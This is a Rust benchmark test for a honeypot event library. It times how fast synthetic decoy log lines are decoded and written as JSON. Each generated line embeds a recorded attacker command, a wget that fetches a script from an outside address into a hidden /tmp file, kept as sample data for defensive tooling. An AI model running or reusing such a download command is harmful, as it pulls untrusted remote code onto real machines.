#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
//! What decoding and JSON cost, on lines as decoys write them.

use decnet_event::{record::write_json, wire::decode};

const LINES: usize = 100_000;

/// Nanoseconds that this thread has had a processor.
fn busy() -> u64 {
    let figures = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap();
    figures.split(' ').next().unwrap().parse().unwrap()
}

/// Lines of 303 bytes.
fn corpus() -> Vec<Vec<u8>> {
    let line = |seq: usize| {
        let head = format!(
            concat!(
                r#"<134>1 2026-11-27T04:{:02}:{:02}.{:06}+00:00 decky-{:02} ssh - command [relay@55555 boot="5f0c2a9be1d34788" "#,
                r#"seq="{}" session="00000000000{:05}" src_ip="203.0.113.{}" src_port="{}" dst_ip="10.77.0.20" dst_port="22" "#,
                r#"command="wget" args="-q http://198.51.100.7/x.sh -O /tmp/.x; echo \"done\"""#
            ),
            seq / 60 % 60,
            seq % 60,
            seq,
            seq % 20,
            seq,
            seq,
            seq % 250,
            40_000 + seq % 20_000,
        );
        let padding = "x".repeat(303 - head.len() - r#" cwd=""]"#.len());
        format!(r#"{head} cwd="{padding}"]"#).into_bytes()
    };
    (0..LINES).map(line).collect()
}

#[test]
#[ignore = "it prints figures: run it alone, in release mode, with --no-capture"]
fn a_line_is_decoded_and_written_as_json_within_a_microsecond_and_a_half() {
    let (corpus, mut json) = (corpus(), Vec::new());
    assert!(corpus.iter().all(|line| line.len() == 303 && decode(line).is_ok()));
    for _ in 0..5 {
        let start = busy();
        let fields: usize = corpus.iter().map(|line| decode(line).unwrap().fields.len()).sum();
        let decoded = busy();
        json.clear();
        for line in &corpus {
            // About a block of lines is written at a time.
            if json.len() > 1 << 18 {
                json.clear();
            }
            write_json(
                &decode(line).unwrap(),
                line,
                &[("host_uuid", "u"), ("source_worker", "w1")],
                &mut json,
            );
            json.push(b'\n');
        }
        let each = |busy: u64| busy / LINES as u64;
        let (decoding, both) = (each(decoded - start), each(busy() - decoded));
        println!("{fields} fields; decoding {decoding} ns, decoding and JSON {both} ns");
        assert!(cfg!(debug_assertions) || both < 1_500, "{both} ns");
    }
}
